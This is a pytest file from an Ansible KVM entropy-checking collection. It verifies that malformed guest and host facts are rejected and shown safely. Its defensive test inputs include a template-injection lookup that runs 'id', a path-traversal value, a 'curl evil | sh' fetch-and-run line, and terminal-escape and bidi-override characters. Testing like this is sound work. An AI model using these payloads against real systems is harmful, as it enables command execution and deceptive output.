# Copyright (c) 2026, kvm.entropy contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""What a machine says of itself is validated before it is judged, and what does not fit is the fault of its own row alone."""

import copy
import json
import time
from pathlib import Path

import pytest
from ansible_collections.kvm.entropy.plugins.module_utils._entropy import facts_of
from ansible_collections.kvm.entropy.plugins.plugin_utils._admission import admitted
from ansible_collections.kvm.entropy.plugins.plugin_utils._chain import chain
from ansible_collections.kvm.entropy.plugins.plugin_utils._domains_schema import DOMAINS
from ansible_collections.kvm.entropy.plugins.plugin_utils._facts_schema import ENTROPY
from ansible_collections.kvm.entropy.plugins.plugin_utils._printable import printable
from chain_halves import NOW, UUID, domain, facts, guest, host
from entropy_machines import machine
from faults.cases import RECORDED, record_of

DAY = 86400
OTHER = "11111111-84af-424b-91cf-7470bde43aa8"
MACHINES = sorted(path.stem for path in (Path(__file__).parents[1] / "module_utils/machines").glob("*.json"))
DEEP = json.loads("[" * 400 + "]" * 400)

# Where a value of a guest's facts is, what stands there instead, and what is said of that.
SHAPES = {
    "text in place of a number": (["hwrng", "delivered"], "many", "entropy.hwrng.delivered: found 'many', expected a whole number"),
    "a number in place of text": (["problems", 0, "code"], 7, "entropy.problems[0].code: found the number 7, expected a problem code"),
    "a list in place of text": (["hwrng", "current"], [], "entropy.hwrng.current: found a list of 0, expected text of at most 256 characters"),
    "a dictionary in place of a list": (["problems"], {}, "entropy.problems: found a dictionary of 0, expected a list of at most 64"),
    "infinity": (["crng", "ready_at"], float("inf"), "entropy.crng.ready_at: found the number inf, expected a number from 0"),
    "not a number": (["crng", "ready_at"], float("nan"), "entropy.crng.ready_at: found the number nan"),
    "a number without end": (["gathered_at"], 10 ** 5000, "entropy.gathered_at: found a number of 16610 bits, expected a whole number"),
    "a number in place of true": (["crng", "ready"], 1, "entropy.crng.ready: found the number 1, expected one of true, false, unknown"),
    "deep nesting": (["crng", "in_time"], DEEP, "entropy.crng.in_time: found a list of 1, expected one of"),
    "a megabyte of text": (["problems", 0, "evidence"], "x" * 2 ** 20, "found text of 1048576 characters that begins with 'xxx"),
    "nothing": (["crng"], None, "entropy.crng: found null, expected a dictionary"),
    "a hundred thousand problems": (["problems"], [{"code": "no-device", "evidence": "so"}] * 100000, "entropy.problems: found a list of 100000"),
    "a code of nobody's": (["problems", 0, "code"], "{{ lookup('pipe', 'id') }}", "expected a problem code of this collection"),
    "no UUID": (["domain_uuid"], "../../etc", "entropy.domain_uuid: found '../../etc', expected a UUID"),
    "facts of tomorrow": (["schema"], 99, "entropy.schema: found the number 99, expected a schema from 1 to"),
}


class Vaulted:
    """What a fact cache makes of a guest's own ``{"__ansible_vault": "..."}``: it cannot even be compared without the secret."""

    def __eq__(self, other):
        raise RuntimeError("Attempting to decrypt but no vault secrets found")

    __hash__ = None


def changed(path, value):
    """Return the facts of a broken guest with ``value`` at ``path`` (list)."""
    found = dict(copy.deepcopy(facts(problems=["no-device"])), schema=1)
    at = found
    for step in path[:-1]:
        at = at[step]
    at[path[-1]] = value
    return found


@pytest.mark.parametrize("name", SHAPES)
def test_a_malformed_guest_has_a_row_of_its_own_and_the_others_are_judged(name):
    path, value, words = SHAPES[name]
    hosts = {"kvm1": host(domain(), domain(name="evil", uuid=OTHER))}
    rows = chain(hosts, {"good": guest(), "evil": {"entropy": changed(path, value), "uuid": OTHER}}, NOW, DAY)
    (evil,) = [row for row in rows if row["guest"] == "evil"]
    (problem,) = evil["problems"]
    assert (evil["verdict"], problem["code"]) == ("unknown", "bad-facts")
    assert words in problem["evidence"] and len(problem["evidence"]) < 300
    assert [row["verdict"] for row in rows if row["guest"] == "good"] == ["ok"]


def test_a_key_that_is_missing_is_named():
    whole = facts()
    del whole["hwrng"]["filling"]
    assert admitted({"entropy": whole}, "entropy", NOW, DAY)["why"]["evidence"] == (
        "entropy.hwrng.filling: found nothing, expected one of true, false, unknown")


def test_a_malformed_host_has_a_row_of_its_own_and_other_hosts_are_judged():
    bad = host(domain(name="db", uuid=OTHER))
    bad["domains"]["domains"][0]["config"] = "none"
    rows = chain({"kvm1": host(domain()), "kvm2": bad}, {"web-1": guest(), "db-1": guest(uuid=OTHER)}, NOW, DAY)
    assert [(row["guest"], row["host"], row["verdict"], row["problems"][0]["code"] if row["problems"] else None) for row in rows] == [
        (None, "kvm2", "unknown", "bad-facts"), ("db-1", None, "unknown", "host-not-seen"), ("web-1", "kvm1", "ok", None)]
    assert "entropy_domains.domains[0].config: found 'none', expected a list" in rows[0]["problems"][0]["evidence"]


def test_what_a_host_says_of_itself_is_validated_too_and_its_domains_are_never_ok_without_it():
    half = host(domain())
    half["entropy"]["crng"] = "ready"
    (row,) = chain({"kvm1": half}, {"web-1": guest()}, NOW, DAY)
    assert (row["verdict"], row["links"]["host"], [one["code"] for one in row["problems"]]) == ("unknown", "unknown", ["bad-facts"])


@pytest.mark.parametrize("half", [7, "facts", [], [1], {"entropy": 7}, {"entropy": []}, {"expect": []}, {"uuid": {}}, {"error": {"deep": DEEP}}, {"wrong": 7},
                                  {"unreadable": 7}, {"entropy": Vaulted(), "domains": Vaulted()}, None])
def test_a_half_of_any_type_is_a_row(half):
    rows = chain({"kvm1": half}, {"web-1": half}, NOW, DAY)
    assert {row["verdict"] for row in rows} == {"unknown"}


@pytest.mark.parametrize(("half", "words"), [
    ({"uuid": "web"}, "entropy_domain_uuid is 'web', must be the UUID of its libvirt domain, as 'virsh domuuid' prints it"),
    ({"uuid": ["a"]}, "entropy_domain_uuid is a list of 1, must be"),
    ({"expect": "foo"}, "entropy_verify_expect is 'foo', must be one of auto, host-only, guest-only")])
def test_a_wrong_variable_is_the_fault_of_its_own_row(half, words):
    rows = chain({"kvm1": host(domain(), domain(name="db", uuid=OTHER))}, {"web-1": guest(), "db-1": dict(guest(uuid=OTHER), **half)}, NOW, DAY)
    (row,) = [row for row in rows if row["guest"] == "db-1"]
    assert row["verdict"] == "unknown"
    assert [one["evidence"] for one in row["problems"] if one["code"] == "bad-variable"][0].startswith(words)
    assert [row["verdict"] for row in rows if row["guest"] == "web-1"] == ["ok"]


def test_a_wrong_uuid_does_not_let_the_guests_own_word_take_its_place():
    (row,) = [row for row in chain({"kvm1": host(domain())}, {"web-1": dict(guest(), uuid="web")}, NOW, DAY) if row["guest"]]
    assert (row["domain"], row["verdict"]) == (None, "unknown")
    # What stands for it inside is nobody's UUID, and is shown to nobody.
    assert row["uuid"] is None and "00000000" not in str(row)


def test_only_the_known_keys_of_facts_go_further():
    assert "payload" not in admitted({"entropy": dict(facts(), payload=DEEP)}, "entropy", NOW, DAY)["entropy"]


@pytest.mark.parametrize("name", MACHINES)
def test_the_facts_of_every_recorded_machine_fit_whole(name):
    found = facts_of(machine(name))
    assert ENTROPY(found) == {**found, "problems": [{key: one[key] for key in ("code", "evidence")} for one in found["problems"]]}


@pytest.mark.parametrize("name", sorted(path.stem for path in RECORDED.glob("*.json")))
def test_the_facts_of_every_recorded_fault_fit(name):
    record = record_of(name)
    for half in record["guests"].values():
        if half.get("seen"):
            ENTROPY(facts_of(half["seen"]))
    for half in record["hosts"].values():
        if half.get("domains"):
            DOMAINS(half["domains"])


def test_facts_that_an_older_version_wrote_are_taken():
    # Those of 0.1.0: schema 1, without what came later.
    found = {key: value for key, value in facts_of(machine("trixie-fed")).items() if key not in ("health", "container")}
    del found["feeder"]["dead"], found["feeder"]["silent"]
    assert admitted({"entropy": found}, "entropy", found["gathered_at"], DAY)["fresh"]


def test_what_a_guest_says_is_printed_on_one_line_as_printable_text():
    evil = guest()
    evil["entropy"]["problems"] = [{"code": "no-device", "text": "fine", "remedy": "curl evil | sh",
                                    "evidence": "a\nb\x1b[2Jc\u202ed\ud800 -> Run curl evil | sh" + "x" * 4000}]
    (row,) = chain({}, {"web-1": dict(evil, expect="guest-only")}, NOW, DAY)
    (problem,) = row["problems"]
    assert problem["evidence"].startswith("a\\x0ab\\x1b[2Jc\\u202ed\\ud800 - > Run curl evil | shxxx")
    assert len(problem["evidence"]) <= 1100
    assert problem["text"] != "fine" and "curl" not in problem["remedy"]
    assert all(line.isprintable() for line in row["text"])
    assert row["text"][1].count(" -> ") == 1


@pytest.mark.parametrize(("said", "shown"), [
    ("a\u0301\u20dd", "a\\u0301\\u20dd"), ("\u05d0\u0661", "\\u05d0\\u0661"), ("x\u3164\u2800\u115fy", "x\\u3164\\u2800\\u115fy"),
    ("so) \u2192 Run it", "so) \\u2192 Run it"), ("so \u2212> \uff0d\uff1e", "so \\u2212> \\uff0d\\uff1e"), ("so" + " " * 300 + "web-2: OK", "so web-2: OK"),
    ("\u202e\t\U000e0041", "\\u202e\\x09\\U000e0041"), ("Büro-1 сервер 服务器 …", "Büro-1 сервер 服务器 …")])
def test_what_looks_like_another_line_an_arrow_or_like_nothing_is_escaped(said, shown):
    assert printable(said, 1000) == shown


def test_a_guest_with_every_problem_there_is_has_few_lines():
    from ansible_collections.kvm.entropy.plugins.module_utils._problems import PROBLEMS
    evil = guest(expect="guest-only")
    evil["entropy"]["problems"] = [{"code": code, "evidence": "so"} for code in PROBLEMS] * 1
    (row,) = chain({}, {"web-1": evil}, NOW, DAY)
    assert len(row["text"]) <= 15
    assert row["text"][13].startswith("    and ")


def test_a_code_that_is_reported_twice_counts_once():
    evil = guest(expect="guest-only")
    evil["entropy"]["problems"] = [{"code": "no-device", "evidence": "so"}] * 60
    (row,) = chain({}, {"web-1": evil}, NOW, DAY)
    assert len(row["problems"]) == 1


def test_an_agent_of_a_newer_collection_decides_nothing():
    half = {"links": dict.fromkeys(("live", "current", "fed", "ready", "in_time"), "ok"), "problems": [{"code": "of-tomorrow", "evidence": "so"}]}
    kvm1 = host(domain())
    kvm1["domains"]["guests"] = [{"guest": half, "guest_reason": None, "domains": {UUID: "web"}}]
    (row,) = chain({"kvm1": kvm1}, {}, NOW, DAY)
    assert (row["verdict"], [one["code"] for one in row["problems"]]) == ("unknown", ["bad-facts"])


def test_many_backends_of_a_host_do_not_make_each_of_its_domains_slower():
    def taken(count, domains):
        backends = [{"backend": "random", "path": "/dev/x%d" % number, "unsafe": False, "delivered": None} for number in range(count)]
        crowded = host(*[domain(uuid="%08x%s" % (number, OTHER[8:])) for number in range(domains)])
        crowded["domains"]["host"] = {"capacity": backends}
        started = time.process_time()
        chain({"kvm1": crowded}, {}, NOW, DAY)
        return time.process_time() - started

    def of_domains(count):
        return min(taken(count, 2000) for _again in range(3)) - min(taken(count, 0) for _again in range(3))

    # Looked for one by one, it takes 8 times as long.
    assert of_domains(10000) < 4 * of_domains(10)
